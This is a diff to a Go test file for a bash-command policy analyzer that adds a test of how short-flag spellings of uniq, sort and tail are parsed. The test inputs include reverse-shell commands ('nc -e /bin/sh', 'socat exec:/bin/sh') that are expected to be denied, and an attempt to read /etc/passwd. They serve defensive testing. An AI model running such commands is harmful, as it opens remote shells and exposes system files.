@@ -101,3 +101,16 @@ func TestSpellingsOfClasses(t *testing.T) {
 	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("nc -e /bin/sh example.com 23"), e).Decision)
 	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("socat exec:/bin/sh tcp:example.com:23"), e).Decision)
 }
+
+// A short spelling takes its own arity (T2): uniq -Df 1 in.txt reads
+// in.txt (-D takes no value, -f takes 1) and writes nothing; sort -cu
+// keeps -u; tail -fn 5 follows x.
+func TestShortSpellingArity(t *testing.T) {
+	e := env(protocol.Policy{})
+	for _, cmd := range []string{"uniq -Df 1 README.md", "uniq -D -f 1 README.md", "sort -cu README.md", "tail -fn 5 README.md", "sort --check=quiet README.md"} {
+		assert.Equal(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
+	}
+	for _, cmd := range []string{"sort -cX README.md", "tail -f/etc/passwd", "uniq -Df 1 README.md out.txt"} {
+		assert.NotEqual(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
+	}
+}
